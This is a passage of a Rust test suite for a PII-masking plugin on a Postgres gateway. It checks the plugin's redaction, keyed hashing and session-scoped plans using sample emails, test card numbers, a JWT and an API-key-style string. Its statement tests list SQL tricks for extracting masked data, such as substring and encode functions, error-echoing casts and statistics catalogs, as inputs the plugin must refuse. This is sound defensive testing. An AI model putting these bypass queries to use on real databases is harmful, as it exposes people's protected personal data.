//! mask-pii driven the way the gateway drives it, through the SDK's native test harness:
//! sessions with identities, result schemas with lineage, Arrow batches, statements.

use mask_pii::MaskPii;
use pgward_plugin_sdk::arrow::arrow_array::builder::{ListBuilder, StringBuilder};
use pgward_plugin_sdk::arrow::arrow_array::cast::AsArray;
use pgward_plugin_sdk::arrow::arrow_array::types::Int64Type;
use pgward_plugin_sdk::arrow::arrow_array::{BinaryArray, Int32Array, Int64Array};
use pgward_plugin_sdk::arrow::{
    read_batch, write_batch, Array, ArrayRef, DataType, Field, RecordBatch, Schema, StringArray,
};
use pgward_plugin_sdk::prelude::*;
use pgward_plugin_sdk::testing::TestHarness;
use std::collections::HashMap;
use std::sync::Arc;

const CONFIG: &str = r#"
[hash]
key = "test-key-0123456789abcdef"

[exempt]
groups = ["support-lead"]
users = ["auditor"]

[[class]]
name = "email"
lineage = ["public.customers.email"]
detectors = ["email"]
strategy = "partial"
keep_last = 4

[[class]]
name = "ssn"
lineage = ["*.*.ssn"]
detectors = ["ssn"]
strategy = "redact"

[[class]]
name = "card"
lineage = ["public.customers.card"]
detectors = ["card"]
strategy = "hash"

[[class]]
name = "phone"
lineage = ["customers.phone"]
detectors = ["phone"]
strategy = "null"

[[class]]
name = "person"
lineage = ["public.customers.name"]
strategy = "redact"
redact_with = "[name]"
exempt = { groups = ["marketing"] }

[[class]]
name = "secret"
detectors = ["jwt", "private_key", "api_key", "iban"]
strategy = "redact"
"#;

const TEXT: u32 = 25;
const INT4: u32 = 23;
const INT8: u32 = 20;
const JSON: u32 = 114;
const JSONB: u32 = 3802;
const NUMERIC: u32 = 1700;
const BYTEA: u32 = 17;
const TEXT_ARRAY: u32 = 1009;

fn harness() -> TestHarness<MaskPii> {
    TestHarness::new(CONFIG).unwrap()
}

fn harness_with(extra: &str) -> TestHarness<MaskPii> {
    TestHarness::new(&format!("{extra}\n{CONFIG}")).unwrap()
}

fn table(schema: &str, table: &str, column: &str) -> ColumnLineage {
    ColumnLineage {
        schema: schema.into(),
        table: table.into(),
        column: column.into(),
        inferred: false,
    }
}

fn inferred(schema: &str, t: &str, column: &str) -> ColumnLineage {
    ColumnLineage {
        inferred: true,
        ..table(schema, t, column)
    }
}

fn col(index: u32, name: &str, type_oid: u32, lineage: Vec<ColumnLineage>) -> Column {
    Column {
        index,
        name: name.into(),
        type_oid,
        lineage,
    }
}

fn customers(column: &str) -> Vec<ColumnLineage> {
    vec![table("public", "customers", column)]
}

/// The IPC stream the gateway sends for `columns` (each with its result index and type oid).
fn ipc(columns: Vec<(&Column, ArrayRef)>) -> Vec<u8> {
    let fields: Vec<Field> = columns
        .iter()
        .map(|(c, a)| {
            Field::new(&c.name, a.data_type().clone(), true).with_metadata(HashMap::from([
                ("pgward.type_oid".to_owned(), c.type_oid.to_string()),
                ("pgward.index".to_owned(), c.index.to_string()),
            ]))
        })
        .collect();
    let arrays = columns.into_iter().map(|(_, a)| a).collect();
    write_batch(&RecordBatch::try_new(Arc::new(Schema::new(fields)), arrays).unwrap()).unwrap()
}

fn strings(values: &[Option<&str>]) -> ArrayRef {
    Arc::new(StringArray::from(values.to_vec()))
}

/// Runs a one-batch result through the plugin: schema, then batch; returns the masked batch.
fn run(
    h: &mut TestHarness<MaskPii>,
    s: &Session,
    columns: &[Column],
    arrays: Vec<ArrayRef>,
) -> RecordBatch {
    let interest = h.result_schema(s, columns);
    assert_eq!(interest.read, interest.modify);
    let asked: Vec<(&Column, ArrayRef)> = columns
        .iter()
        .zip(arrays)
        .filter(|(c, _)| interest.read.contains(&c.index))
        .collect();
    let input = ipc(asked);
    match h.batch(s, &input) {
        BatchResult::Replace(bytes) => read_batch(&bytes).unwrap(),
        BatchResult::Unchanged => read_batch(&input).unwrap(),
        BatchResult::Abort(d) => panic!("aborted: {d:?}"),
    }
}

fn text_values(b: &RecordBatch, i: usize) -> Vec<Option<String>> {
    b.column(i)
        .as_string::<i32>()
        .iter()
        .map(|v| v.map(str::to_owned))
        .collect()
}

fn one(b: &RecordBatch, i: usize) -> Option<String> {
    text_values(b, i).remove(0)
}

#[test]
fn table_columns_are_masked_with_their_class_strategy() {
    let mut h = harness();
    let s = h.session("alice", &["analysts"]);
    let columns = [
        col(0, "id", INT4, customers("id")),
        col(1, "email", TEXT, customers("email")),
        col(2, "ssn", TEXT, customers("ssn")),
        col(3, "card", TEXT, customers("card")),
        col(4, "phone", TEXT, customers("phone")),
        col(5, "name", TEXT, customers("name")),
    ];
    let out = run(
        &mut h,
        &s,
        &columns,
        vec![
            Arc::new(Int32Array::from(vec![1, 2])),
            strings(&[Some("ada@example.com"), None]),
            strings(&[Some("123-45-6789"), Some("078-05-1120")]),
            strings(&[Some("4111 1111 1111 1111"), Some("4111 1111 1111 1111")]),
            strings(&[Some("+1 415-555-2671"), Some("555-123-4567")]),
            strings(&[Some("Ada Lovelace"), Some("Grace Hopper")]),
        ],
    );
    // `id` is not classified and not text: not asked for, so the batch starts at email.
    assert_eq!(out.num_columns(), 5);
    assert_eq!(
        text_values(&out, 0),
        [Some("***@******e.com".to_owned()), None]
    );
    assert_eq!(
        text_values(&out, 1),
        [Some("[redacted]".to_owned()), Some("[redacted]".to_owned())]
    );
    let cards = text_values(&out, 2);
    assert_eq!(cards[0], cards[1], "a keyed hash is deterministic");
    assert_eq!(cards[0].as_ref().unwrap().len(), 16);
    assert!(out.column(3).is_null(0) && out.column(3).is_null(1));
    assert_eq!(
        text_values(&out, 4),
        [Some("[name]".to_owned()), Some("[name]".to_owned())]
    );
    for (i, f) in out.schema().fields().iter().enumerate() {
        assert_eq!(f.data_type(), &DataType::Utf8, "column {i} keeps its type");
    }
}

#[test]
fn the_same_value_hashes_the_same_across_queries_and_sessions() {
    let mut h = harness();
    let a = h.session("alice", &[]);
    let b = h.session("bob", &[]);
    let card = [col(0, "card", TEXT, customers("card"))];
    let first = run(
        &mut h,
        &a,
        &card,
        vec![strings(&[Some("4111111111111111")])],
    );
    let aliased = [col(0, "c", TEXT, customers("card"))];
    let second = run(
        &mut h,
        &b,
        &aliased,
        vec![strings(&[Some("4111111111111111")])],
    );
    assert_eq!(one(&first, 0), one(&second, 0));
    assert_ne!(one(&first, 0).as_deref(), Some("4111111111111111"));
    // A different key gives a different hash.
    let mut other = TestHarness::<MaskPii>::new(
        &CONFIG.replace("test-key-0123456789abcdef", "another-key-0123456789"),
    )
    .unwrap();
    let c = other.session("carol", &[]);
    let third = run(
        &mut other,
        &c,
        &card,
        vec![strings(&[Some("4111111111111111")])],
    );
    assert_ne!(one(&first, 0), one(&third, 0));
}

#[test]
fn exempt_identities_ask_for_nothing_and_keep_the_fast_path() {
    let mut h = harness();
    let columns = [
        col(0, "email", TEXT, customers("email")),
        col(1, "notes", TEXT, vec![]),
    ];
    for s in [
        h.session("lead", &["support-lead"]),
        h.session("auditor", &[]),
    ] {
        assert!(h.result_schema(&s, &columns).is_empty(), "{}", s.user());
        assert!(h
            .query(&s, "SELECT substr(email, 1, 3) FROM customers")
            .is_allow());
    }
}

#[test]
fn a_class_exemption_reveals_only_that_class() {
    let mut h = harness();
    let m = h.session("mia", &["marketing"]);
    let columns = [
        col(0, "name", TEXT, customers("name")),
        col(1, "email", TEXT, customers("email")),
    ];
    let out = run(
        &mut h,
        &m,
        &columns,
        vec![
            strings(&[Some("Ada Lovelace")]),
            strings(&[Some("ada@example.com")]),
        ],
    );
    // name is not classified for marketing, but still scanned by the detectors.
    assert_eq!(one(&out, 0).as_deref(), Some("Ada Lovelace"));
    assert_eq!(one(&out, 1).as_deref(), Some("***@******e.com"));
}

#[test]
fn derived_columns_of_one_class_are_masked_whole() {
    let mut h = harness();
    let s = h.session("alice", &[]);
    let columns = [
        col(
            0,
            "lower",
            TEXT,
            vec![inferred("public", "customers", "email")],
        ),
        col(
            1,
            "string_agg",
            TEXT,
            vec![inferred("public", "customers", "email")],
        ),
        col(2, "first3", TEXT, vec![inferred("", "customers", "ssn")]),
        col(
            3,
            "v_name",
            TEXT,
            vec![inferred("public", "customers", "name")],
        ),
        col(4, "n", INT8, vec![inferred("public", "customers", "email")]),
        col(
            5,
            "both",
            TEXT,
            vec![
                inferred("public", "customers", "email"),
                inferred("public", "customers", "phone"),
            ],
        ),
    ];
    let out = run(
        &mut h,
        &s,
        &columns,
        vec![
            strings(&[Some("ada@example.com")]),
            strings(&[Some("ada@example.com,bob@example.org")]),
            strings(&[Some("123")]),
            strings(&[Some("ADA LOVELACE")]),
            Arc::new(Int64Array::from(vec![2])),
            strings(&[Some("ada@example.com +1 415 555 2671")]),
        ],
    );
    assert_eq!(one(&out, 0).as_deref(), Some("***@******e.com"));
    assert_eq!(
        one(&out, 1).as_deref(),
        Some("***@*******.***,***@******e.org")
    );
    // A fragment no detector would recognise is still masked: the lineage says it is an SSN.
    assert_eq!(one(&out, 2).as_deref(), Some("[redacted]"));
    assert_eq!(one(&out, 3).as_deref(), Some("[name]"));
    // Not text: NULL (count(email), length(email)).
    assert!(out.column(4).is_null(0));
    // Two classes and nothing else: the least revealing strategy (phone's null).
    assert!(out.column(5).is_null(0));
}

#[test]
fn whole_rows_are_masked_by_the_detectors_when_every_class_has_one() {
    let mut h = harness();
    // marketing sees names, so every class left in customers has a detector.
    let s = h.session("mia", &["marketing"]);
    let columns = [col(
        0,
        "row_to_json",
        JSON,
        vec![inferred("public", "customers", "*")],
    )];
    let json = r#"{"id":1,"name":"Ada Lovelace","email":"ada@example.com","phone":"+1 415 555 2671","ssn":"123-45-6789","card":"4111111111111111","notes":"call back"}"#;
    let out = run(&mut h, &s, &columns, vec![strings(&[Some(json)])]);
    // The phone class masks with null: a detected phone number withholds the whole value.
    assert!(out.column(0).is_null(0));

    let json = r#"{"id":1,"name":"Ada Lovelace","email":"ada@example.com","ssn":"123-45-6789","card":"4111 1111 1111 1111"}"#;
    let out = run(&mut h, &s, &columns, vec![strings(&[Some(json)])]);
    let masked = one(&out, 0).unwrap();
    assert!(masked.contains(r#""name":"Ada Lovelace""#), "{masked}");
    assert!(masked.contains(r#""email":"***@******e.com""#), "{masked}");
    assert!(masked.contains(r#""ssn":"[redacted]""#), "{masked}");
    for cleartext in ["ada@example.com", "123-45-6789", "4111 1111 1111 1111"] {
        assert!(!masked.contains(cleartext), "{cleartext} in {masked}");
    }
    // Still valid JSON of the same shape.
    assert!(masked.starts_with('{') && masked.ends_with('}'));
}

#[test]
fn whole_rows_with_a_class_no_detector_recognises_are_refused() {
    let mut h = harness();
    let s = h.session("alice", &[]);
    let columns = [
        col(0, "id", INT4, customers("id")),
        col(1, "c", 16500, vec![inferred("public", "customers", "*")]),
    ];
    let interest = h.result_schema(&s, &columns);
    assert_eq!(interest.read, [1]);
    let input = ipc(vec![(
        &columns[1],
        strings(&[Some("(1,\"Ada Lovelace\",ada@example.com)")]),
    )]);
    let BatchResult::Abort(deny) = h.batch(&s, &input) else {
        panic!("expected the result to stop");
    };
    assert_eq!(deny.sqlstate, "42501");
    assert!(
        deny.message.contains("column \"c\"") && deny.message.contains("person"),
        "{}",
        deny.message
    );
    // A column that holds only NULLs leaks nothing: it passes.
    let nulls = ipc(vec![(&columns[1], strings(&[None]))]);
    assert_eq!(h.batch(&s, &nulls), BatchResult::Unchanged);

    // With on_uncertain = "detect" the detectors run instead (best effort).
    let mut h = harness_with("on_uncertain = \"detect\"");
    let s = h.session("alice", &[]);
    let out = run(
        &mut h,
        &s,
        &columns,
        vec![
            Arc::new(Int32Array::from(vec![1])),
            strings(&[Some("(1,Ada,ada@example.com)")]),
        ],
    );
    assert_eq!(one(&out, 0).as_deref(), Some("(1,Ada,***@******e.com)"));
}

#[test]
fn mixed_sources_with_unclassified_data_use_the_detectors() {
    let mut h = harness();
    let s = h.session("alice", &[]);
    // A union of customers.email and tickets.body: only detectors can keep the body readable.
    let columns = [col(
        0,
        "text",
        TEXT,
        vec![
            inferred("public", "customers", "email"),
            inferred("public", "tickets", "body"),
        ],
    )];
    let out = run(
        &mut h,
        &s,
        &columns,
        vec![strings(&[
            Some("ada@example.com"),
            Some("please call me, ssn 123-45-6789"),
            Some("nothing here"),
        ])],
    );
    assert_eq!(
        text_values(&out, 0),
        [
            Some("***@******e.com".to_owned()),
            Some("please call me, ssn [redacted]".to_owned()),
            Some("nothing here".to_owned())
        ]
    );
}

#[test]
fn columns_without_lineage_are_scanned() {
    let mut h = harness();
    let s = h.session("alice", &[]);
    let columns = [
        col(0, "?column?", TEXT, vec![]),
        col(1, "n", INT4, vec![]),
        col(2, "notes", TEXT, vec![table("public", "tickets", "notes")]),
    ];
    let interest = h.result_schema(&s, &columns);
    assert_eq!(interest.read, [0, 2], "integers are never scanned");
    let jwt = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U";
    let out = run(
        &mut h,
        &s,
        &columns,
        vec![
            strings(&[
                Some(&format!("token {jwt}")),
                Some("key sk_live_4eC39HqLyjWDarjtT1zdp7dc"),
            ]),
            Arc::new(Int32Array::from(vec![1, 2])),
            strings(&[
                Some("IBAN DE89 3704 0044 0532 0130 00 please"),
                Some("card 4111-1111-1111-1111"),
            ]),
        ],
    );
    assert_eq!(
        text_values(&out, 0),
        [
            Some("token [redacted]".to_owned()),
            Some("key [redacted]".to_owned())
        ]
    );
    let notes = text_values(&out, 1);
    assert_eq!(notes[0].as_deref(), Some("IBAN [redacted] please"));
    let card = notes[1].as_deref().unwrap();
    assert!(
        card.starts_with("card ") && card.len() == 5 + 16 && !card.contains("4111"),
        "{card}"
    );

    // Nothing detected: the batch comes back unchanged (the gateway relays the original bytes).
    h.result_schema(&s, &columns[..1]);
    let clean = ipc(vec![(
        &columns[0],
        strings(&[Some("hello"), None, Some("order 12345 on 2024-01-15")]),
    )]);
    assert_eq!(h.batch(&s, &clean), BatchResult::Unchanged);

    // scan_unclassified = false skips plain unclassified table columns, not unknown ones.
    let mut h = harness_with("scan_unclassified = false");
    let s = h.session("alice", &[]);
    assert_eq!(h.result_schema(&s, &columns).read, [0]);
}

#[test]
fn types_are_kept_json_numeric_arrays_binary_and_integers() {
    let mut h = harness();
    let s = h.session("alice", &[]);
    let columns = [
        col(
            0,
            "email_json",
            JSONB,
            vec![inferred("public", "customers", "email")],
        ),
        col(1, "card_num", NUMERIC, customers("card")),
        col(2, "ssn_num", NUMERIC, customers("ssn")),
        col(
            3,
            "emails",
            TEXT_ARRAY,
            vec![inferred("public", "customers", "email")],
        ),
        col(4, "blob", BYTEA, vec![]),
        col(5, "ssn_int", INT8, vec![table("hr", "people", "ssn")]),
        col(6, "card_int", INT8, customers("card")),
        col(7, "arr_text", TEXT_ARRAY, customers("email")),
    ];
    let mut emails = ListBuilder::new(StringBuilder::new());
    emails.values().append_value("ada@example.com");
    emails.values().append_null();
    emails.append(true);
    emails.append_null();
    let emails = Arc::new(emails.finish()) as ArrayRef;
    let out = run(
        &mut h,
        &s,
        &columns,
        vec![
            strings(&[Some("\"ada@example.com\""), None]),
            strings(&[Some("4111111111111111"), None]),
            strings(&[Some("123456789"), None]),
            emails,
            Arc::new(BinaryArray::from(vec![
                Some(&b"mail ada@example.com\x00\x01"[..]),
                None,
            ])),
            Arc::new(Int64Array::from(vec![Some(123456789), None])),
            Arc::new(Int64Array::from(vec![
                Some(4111111111111111),
                Some(4111111111111111),
            ])),
            strings(&[Some("{ada@example.com,bob@example.org}"), None]),
        ],
    );
    // A JSON string of the masked JSON text.
    assert_eq!(one(&out, 0).as_deref(), Some("\"****@******e.com*\""));
    let json = one(&out, 0).unwrap();
    assert!(
        json.starts_with('"') && json.ends_with('"') && !json.contains("ada@example.com"),
        "{json}"
    );
    let card = one(&out, 1).unwrap();
    assert!(
        card.bytes().all(|c| c.is_ascii_digit()) && card != "4111111111111111",
        "{card}"
    );
    assert!(out.column(2).is_null(0), "redacting a numeric gives NULL");
    let list = out.column(3).as_list::<i32>();
    assert_eq!(
        out.column(3).data_type(),
        &DataType::List(Arc::new(Field::new("item", DataType::Utf8, true)))
    );
    assert_eq!(list.value(0).as_string::<i32>().value(0), "***@******e.com");
    assert!(list.value(0).is_null(1) && list.is_null(1));
    let blob = out.column(4).as_binary::<i32>();
    assert_eq!(blob.value(0), b"mail ***************\x00\x01");
    assert!(out.column(5).is_null(0), "a redacted integer is NULL");
    let ints = out.column(6).as_primitive::<Int64Type>();
    assert_eq!(ints.value(0), ints.value(1));
    assert_ne!(ints.value(0), 4111111111111111);
    assert!(ints.value(0) >= 0);
    // An array in text form cannot hold a masked text: NULL.
    assert!(out.column(7).is_null(0));
    assert_eq!(out.column(5).data_type(), &DataType::Int64);
}

#[test]
fn batches_without_a_matching_plan_are_stopped() {
    let mut h = harness();
    let s = h.session("alice", &[]);
    let email = col(0, "email", TEXT, customers("email"));
    let input = ipc(vec![(&email, strings(&[Some("ada@example.com")]))]);
    // No on_result_schema for these columns in this session (the instance was replaced).
    let BatchResult::Abort(d) = h.batch(&s, &input) else {
        panic!("expected an abort");
    };
    assert_eq!(d.sqlstate, "58000");
    assert!(
        d.hint.as_deref().unwrap_or_default().contains("reconnect"),
        "{d:?}"
    );
    // A plan for other columns does not apply.
    h.result_schema(&s, &[col(0, "x", TEXT, vec![])]);
    assert!(matches!(h.batch(&s, &input), BatchResult::Abort(_)));
    // Nor does another session's plan for the same columns.
    let other = h.session("bob", &[]);
    h.result_schema(&other, std::slice::from_ref(&email));
    assert!(matches!(h.batch(&s, &input), BatchResult::Abort(_)));
    let BatchResult::Abort(_) = h.batch(&s, b"not arrow") else {
        panic!("expected an abort");
    };
}

#[test]
fn repeated_results_are_masked_without_a_new_schema_call() {
    // The gateway asks once per result shape in a session and reuses the answer.
    let mut h = harness();
    let s = h.session("alice", &[]);
    let email = [col(0, "email", TEXT, customers("email"))];
    let other = [col(0, "note", TEXT, vec![])];
    h.result_schema(&s, &email);
    h.result_schema(&s, &other);
    for _ in 0..3 {
        let out = h.batch(
            &s,
            &ipc(vec![(&email[0], strings(&[Some("ada@example.com")]))]),
        );
        let BatchResult::Replace(bytes) = out else {
            panic!("{out:?}")
        };
        assert_eq!(
            one(&read_batch(&bytes).unwrap(), 0).as_deref(),
            Some("***@******e.com")
        );
    }
}

#[test]
fn results_that_look_alike_but_differ_in_lineage_share_a_safe_plan() {
    let mut h = harness();
    let s = h.session("alice", &[]);
    // Same name, type and position; different sources (`name AS x`, then `note AS x`).
    let from_name = [col(0, "x", TEXT, customers("name"))];
    let from_note = [col(0, "x", TEXT, vec![table("public", "tickets", "note")])];
    h.result_schema(&s, &from_name);
    h.result_schema(&s, &from_note);
    // The first statement runs again: the gateway reuses its answer and sends the batch. The
    // plan for `x` must still mask a name.
    let out = h.batch(
        &s,
        &ipc(vec![(&from_name[0], strings(&[Some("Ada Lovelace")]))]),
    );
    let BatchResult::Replace(bytes) = out else {
        panic!("{out:?}")
    };
    assert_eq!(
        one(&read_batch(&bytes).unwrap(), 0).as_deref(),
        Some("[name]")
    );
    // A refusal wins over any other plan for the same columns.
    let row = [col(
        0,
        "r",
        16500,
        vec![inferred("public", "customers", "*")],
    )];
    let text = [col(0, "r", 16500, vec![])];
    h.result_schema(&s, &text);
    h.result_schema(&s, &row);
    h.result_schema(&s, &text);
    assert!(matches!(
        h.batch(&s, &ipc(vec![(&text[0], strings(&[Some("(1,Ada)")]))])),
        BatchResult::Abort(d) if d.sqlstate == "42501"
    ));
}

#[test]
fn plans_are_per_session() {
    let mut h = harness();
    let a = h.session("alice", &[]);
    let b = h.session("bob", &[]);
    let email = [col(0, "email", TEXT, customers("email"))];
    let notes = [col(
        0,
        "email",
        TEXT,
        vec![table("public", "tickets", "email")],
    )];
    h.result_schema(&a, &email);
    h.result_schema(&b, &notes);
    // Same column name, different lineage: each session's batch is masked by its own plan.
    let out = h.batch(&a, &ipc(vec![(&email[0], strings(&[Some("Ada")]))]));
    let BatchResult::Replace(bytes) = out else {
        panic!("{out:?}")
    };
    assert_eq!(one(&read_batch(&bytes).unwrap(), 0).as_deref(), Some("**a"));
    let out = h.batch(&b, &ipc(vec![(&notes[0], strings(&[Some("Ada")]))]));
    assert_eq!(out, BatchResult::Unchanged);
    // When alice's session ends, her plans go; bob's stay.
    assert_eq!(h.plugin_mut().plans().len(), 2);
    h.plugin_mut().on_session_end(&a);
    assert_eq!(h.plugin_mut().plans().len(), 1);
    let out = h.batch(&b, &ipc(vec![(&notes[0], strings(&[Some("Ada")]))]));
    assert_eq!(out, BatchResult::Unchanged);
}

#[test]
fn no_cleartext_leaves_in_the_ipc_bytes() {
    let mut h = harness();
    let s = h.session("alice", &[]);
    let secrets = [
        "ada@example.com",
        "123-45-6789",
        "4111 1111 1111 1111",
        "+1 415-555-2671",
        "Ada Lovelace",
    ];
    let columns = [
        col(0, "email", TEXT, customers("email")),
        col(1, "ssn", TEXT, customers("ssn")),
        col(2, "card", TEXT, customers("card")),
        col(3, "phone", TEXT, customers("phone")),
        col(4, "name", TEXT, customers("name")),
        col(
            5,
            "all",
            TEXT,
            vec![
                inferred("public", "customers", "email"),
                inferred("public", "notes", "x"),
            ],
        ),
    ];
    h.result_schema(&s, &columns);
    let input = ipc(columns
        .iter()
        .enumerate()
        .map(|(i, c)| {
            (
                c,
                strings(&[Some(if i < 5 {
                    secrets[i]
                } else {
                    "ada@example.com 123-45-6789"
                })]),
            )
        })
        .collect());
    let BatchResult::Replace(bytes) = h.batch(&s, &input) else {
        panic!("expected masking");
    };
    for secret in secrets {
        assert!(
            !bytes.windows(secret.len()).any(|w| w == secret.as_bytes()),
            "{secret} leaked"
        );
    }
}

#[test]
fn lineage_patterns_match_wildcards_and_unresolved_schemas() {
    let mut h = harness();
    let s = h.session("alice", &[]);
    let columns = [
        col(0, "ssn", TEXT, vec![table("hr", "people", "ssn")]),
        col(1, "email", TEXT, vec![table("", "customers", "email")]),
        col(2, "email2", TEXT, vec![table("crm", "customers", "email")]),
        col(
            3,
            "phone",
            TEXT,
            vec![table("anything", "customers", "phone")],
        ),
    ];
    let out = run(
        &mut h,
        &s,
        &columns,
        vec![
            strings(&[Some("078-05-1120")]),
            strings(&[Some("x")]),
            strings(&[Some("plain text")]),
            strings(&[Some("n/a")]),
        ],
    );
    assert_eq!(one(&out, 0).as_deref(), Some("[redacted]"), "*.*.ssn");
    assert_eq!(
        one(&out, 1).as_deref(),
        Some("*"),
        "empty schema matches public"
    );
    assert_eq!(
        one(&out, 2).as_deref(),
        Some("plain text"),
        "crm.customers is not public.customers"
    );
    assert!(out.column(3).is_null(0), "customers.phone in any schema");
}

#[test]
fn init_logs_a_summary_without_the_key() {
    let h = harness();
    assert!(h.logged("masking 6 classes"));
    assert!(!h.logs().iter().any(|l| l.message.contains("test-key")));
    let err = TestHarness::<MaskPii>::new(
        "[[class]]\nname = \"x\"\nlineage = [\"t.c\"]\nstrategy = \"hash\"\n",
    )
    .err()
    .unwrap();
    assert!(err.contains("hash.key"), "{err}");
}

mod statements {
    use super::*;

    fn denied(h: &mut TestHarness<MaskPii>, s: &Session, sql: &str) -> String {
        let v = h.query(s, sql);
        assert_eq!(v.sqlstate(), Some("42501"), "{sql}: {v:?}");
        v.as_deny().unwrap().message.clone()
    }

    fn allowed(h: &mut TestHarness<MaskPii>, s: &Session, sql: &str) {
        let v = h.query(s, sql);
        assert!(v.is_allow(), "{sql}: {v:?}");
    }

    #[test]
    fn ordinary_reads_are_allowed() {
        let mut h = harness();
        let s = h.session("alice", &[]);
        for sql in [
            "SELECT * FROM customers",
            "SELECT id, email AS e, lower(email), upper(name) FROM public.customers c WHERE id = $1",
            "SELECT string_agg(email, ', ' ORDER BY id), count(*), max(ssn) FROM customers GROUP BY name",
            "SELECT row_to_json(c), to_jsonb(c.*) FROM customers c",
            "SELECT email FROM customers UNION SELECT note FROM tickets",
            "WITH x AS (SELECT email FROM customers) SELECT * FROM x",
            "SELECT coalesce(email, phone) || ' ' || name FROM customers",
            "SELECT email::text, ssn::varchar, id::bigint, created_at::date FROM customers",
            "SELECT date_trunc('day', created_at), extract(year FROM created_at) FROM customers",
            "DECLARE k CURSOR FOR SELECT id, email, c.* FROM customers c",
            "FETCH 10 FROM k",
            "COPY customers TO STDOUT WITH (FORMAT csv)",
            "COPY (SELECT email FROM customers) TO STDOUT",
            "UPDATE customers SET phone = $1, updated_at = now() WHERE id = $2",
            "UPDATE customers SET email = lower(email), visits = visits + 1 WHERE id = $1",
            "UPDATE pgbench_accounts SET abalance = abalance + $1 WHERE aid = $2",
            "SELECT abalance FROM pgbench_accounts WHERE aid = $1",
            "INSERT INTO customers (name, email) VALUES ($1, $2) RETURNING id",
            "DELETE FROM customers WHERE id = 1 RETURNING *",
            "CREATE VIEW v AS SELECT upper(name) AS n FROM customers",
            "SELECT pg_catalog.format_type(a.atttypid, a.atttypmod), pg_catalog.pg_get_expr(d.adbin, d.adrelid) FROM pg_catalog.pg_attribute a LEFT JOIN pg_catalog.pg_attrdef d ON (a.attrelid, a.attnum) = (d.adrelid, d.adnum) WHERE a.attrelid = 'customers'::pg_catalog.regclass",
            "SELECT c.relname FROM pg_catalog.pg_class c WHERE c.relname OPERATOR(pg_catalog.~) '^(customers)$' AND pg_catalog.pg_table_is_visible(c.oid)",
            "BEGIN; SELECT 1; COMMIT",
            "SELECT (information_schema._pg_expandarray(i.indkey)).n FROM pg_catalog.pg_index i",
            "SET search_path = public",
            "SELECT pg_catalog.pg_size_pretty(pg_catalog.pg_database_size(d.datname)) FROM pg_catalog.pg_database d",
        ] {
            allowed(&mut h, &s, sql);
        }
    }

    #[test]
    fn unknown_statements_are_refused() {
        let mut h = harness();
        let s = h.session("alice", &[]);
        let m = denied(
            &mut h,
            &s,
            "DO $$ BEGIN RAISE NOTICE '%', (SELECT name FROM customers LIMIT 1); END $$",
        );
        assert!(m.contains("could not analyse"), "{m}");
    }

    #[test]
    fn functions_that_cut_encode_or_read_on_their_own_are_refused() {
        let mut h = harness();
        let s = h.session("alice", &[]);
        for (sql, f) in [
            ("SELECT substr(email, 1, 5) FROM customers", "substr"),
            (
                "SELECT substring(email from 1 for 5) FROM customers",
                "substring",
            ),
            ("SELECT left(ssn, 3) FROM customers", "left"),
            (
                "SELECT split_part(email, '@', 1) FROM customers",
                "split_part",
            ),
            (
                "SELECT translate(card, '0123456789', 'abcdefghij') FROM customers",
                "translate",
            ),
            (
                "SELECT encode(email::bytea, 'base64') FROM customers",
                "encode",
            ),
            ("SELECT md5(ssn) FROM customers", "md5"),
            ("SELECT reverse(name) FROM customers", "reverse"),
            ("SELECT leak()", "leak"),
            (
                "SELECT query_to_xml('select * from customers', true, true, '')",
                "query_to_xml",
            ),
            (
                "SELECT set_config('x.y', name, false) FROM customers",
                "set_config",
            ),
            ("SELECT trim(both 'A' from name) FROM customers", "trim"),
            ("SELECT \"Upper\"(name) FROM customers", "Upper"),
            (
                "PREPARE p AS SELECT overlay(email placing 'x' from 1 for 3) FROM customers",
                "overlay",
            ),
            ("CALL export_customers()", "export_customers"),
        ] {
            let m = denied(&mut h, &s, sql);
            assert!(m.contains(&format!("{f}()")), "{sql}: {m}");
        }
    }

    #[test]
    fn allow_functions_extends_the_list() {
        let mut h = harness_with("allow_functions = [\"app.*\", \"btrim\"]");
        let s = h.session("alice", &[]);
        allowed(
            &mut h,
            &s,
            "SELECT app.display_name(id), btrim(name) FROM customers",
        );
        denied(&mut h, &s, "SELECT other.display_name(id) FROM customers");
    }

    #[test]
    fn statistics_catalogs_are_refused() {
        let mut h = harness();
        let s = h.session("alice", &[]);
        let m = denied(
            &mut h,
            &s,
            "SELECT most_common_vals FROM pg_stats WHERE tablename = 'customers'",
        );
        assert!(m.contains("pg_stats"), "{m}");
        denied(&mut h, &s, "SELECT * FROM pg_catalog.pg_statistic");
    }

    #[test]
    fn truncating_and_error_echoing_casts_are_refused() {
        let mut h = harness();
        let s = h.session("alice", &[]);
        for sql in [
            "SELECT email::varchar(5) FROM customers",
            "SELECT CAST(row_to_json(c) AS char(20)) FROM customers c",
            "SELECT ssn::\"char\" FROM customers",
            "SELECT name::character(3) FROM customers",
        ] {
            let m = denied(&mut h, &s, sql);
            assert!(m.contains("cut classified values"), "{sql}: {m}");
        }
        for sql in [
            "SELECT ssn::int FROM customers",
            "SELECT c.email::jsonb FROM customers c",
            "SELECT CAST(name AS integer) FROM customers",
            "SELECT (email || '')::numeric FROM customers",
            "SELECT c::text::int FROM customers c",
            "SELECT name::regclass FROM customers",
        ] {
            let m = denied(&mut h, &s, sql);
            assert!(m.contains("error message"), "{sql}: {m}");
        }
        allowed(&mut h, &s, "SELECT 'abc'::char(2)");
    }

    #[test]
    fn cursors_and_prepared_statements_over_computed_columns_are_refused() {
        let mut h = harness();
        let s = h.session("alice", &[]);
        for sql in [
            "DECLARE k CURSOR FOR SELECT upper(name) FROM customers",
            "DECLARE k CURSOR FOR SELECT name || '' FROM customers",
            "DECLARE k CURSOR FOR SELECT c FROM customers c",
            "DECLARE k CURSOR FOR SELECT n FROM (SELECT name AS n FROM customers) s",
            "PREPARE p AS SELECT email || name FROM customers",
        ] {
            let m = denied(&mut h, &s, sql);
            assert!(m.contains("computed columns"), "{sql}: {m}");
        }
        allowed(
            &mut h,
            &s,
            "PREPARE p (int) AS SELECT name, email FROM customers WHERE id = $1",
        );
        allowed(&mut h, &s, "EXECUTE p(1)");
        // When every class left has a detector (marketing sees names), FETCH results are
        // scanned: cursors over computed columns are allowed.
        let m = h.session("mia", &["marketing"]);
        allowed(
            &mut h,
            &m,
            "DECLARE k CURSOR FOR SELECT upper(email) FROM customers",
        );
    }

    #[test]
    fn writes_of_rows_read_from_relations_are_refused() {
        let mut h = harness();
        let s = h.session("alice", &[]);
        for sql in [
